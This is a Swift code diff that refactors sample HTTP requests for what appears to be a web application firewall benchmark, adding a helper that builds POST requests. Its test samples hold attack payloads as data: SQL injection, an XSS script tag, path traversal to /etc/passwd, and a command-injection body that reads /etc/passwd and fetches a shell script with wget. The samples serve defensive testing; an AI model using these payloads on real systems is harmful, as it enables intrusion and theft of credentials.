@@ -22,24 +22,26 @@ let browser: [(String, String)] = [
     ("Cookie", "session=4f2a9c1e7b; theme=dark"),
 ]
 
+/// A POST from the browser with `body` of content type `type` (Content-Length from the body).
+func post(_ name: String, _ target: String, type: String, body: String) -> Sample {
+    Sample(name: name, method: "POST", target: target,
+           headers: browser + [("Content-Type", type), ("Content-Length", String(body.utf8.count))], body: body)
+}
+
 let samples: [Sample] = [
     Sample(name: "GET 4 args", method: "GET", target: "/products?id=1234&page=2&q=blue+shoes&sort=price", headers: browser),
-    Sample(name: "form POST", method: "POST", target: "/account/login",
-           headers: browser + [("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", "58")],
-           body: "username=alice&password=correct+horse&remember=on&next=%2F"),
-    Sample(name: "JSON POST", method: "POST", target: "/api/v1/orders",
-           headers: browser + [("Content-Type", "application/json"), ("Content-Length", "90")],
-           body: #"{"items":[{"sku":"A-1001","qty":2},{"sku":"B-2002","qty":1}],"note":"leave at the door"}"#),
+    post("form POST", "/account/login", type: "application/x-www-form-urlencoded",
+         body: "username=alice&password=correct+horse&remember=on&next=%2F"),
+    post("JSON POST", "/api/v1/orders", type: "application/json",
+         body: #"{"items":[{"sku":"A-1001","qty":2},{"sku":"B-2002","qty":1}],"note":"leave at the door"}"#),
     Sample(name: "SQLi arg", method: "GET", target: "/products?id=1%27%20OR%20%271%27%3D%271&page=2", headers: browser),
     Sample(name: "XSS arg", method: "GET", target: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", headers: browser),
     // The rest of `make bench`'s attack mix (bench/waf/attack.lua).
     Sample(name: "traversal arg", method: "GET", target: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", headers: browser),
-    Sample(name: "SQLi form", method: "POST", target: "/account/login",
-           headers: browser + [("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", "76")],
-           body: "username=admin%27--&password=x%27%20UNION%20SELECT%20password%20FROM%20users--"),
-    Sample(name: "shell JSON", method: "POST", target: "/api/v1/run",
-           headers: browser + [("Content-Type", "application/json"), ("Content-Length", "66")],
-           body: #"{"cmd":";cat /etc/passwd","host":"127.0.0.1 && wget http://x/s.sh"}"#),
+    post("SQLi form", "/account/login", type: "application/x-www-form-urlencoded",
+         body: "username=admin%27--&password=x%27%20UNION%20SELECT%20password%20FROM%20users--"),
+    post("shell JSON", "/api/v1/run", type: "application/json",
+         body: #"{"cmd":";cat /etc/passwd","host":"127.0.0.1 && wget http://x/s.sh"}"#),
 ]
 
 let args = CommandLine.arguments
